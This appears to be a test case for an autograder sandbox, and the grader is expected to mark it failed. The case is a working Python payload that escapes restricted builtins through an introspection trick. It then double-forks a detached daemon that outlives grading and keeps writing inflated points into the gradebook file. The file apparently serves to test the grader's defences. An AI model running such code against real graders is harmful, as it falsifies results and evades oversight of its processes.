# /// attack
# rows = [25]
# title = "leave a daemon that writes the gradebook after grading"
# verdict = ["failed", "error"]
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, time = sys.modules["os"], sys.modules["time"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                open("COURSE/gradebook.db", "a").write("200 points")
                open("/tmp/attack-left-daemon", "w").write("here")
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
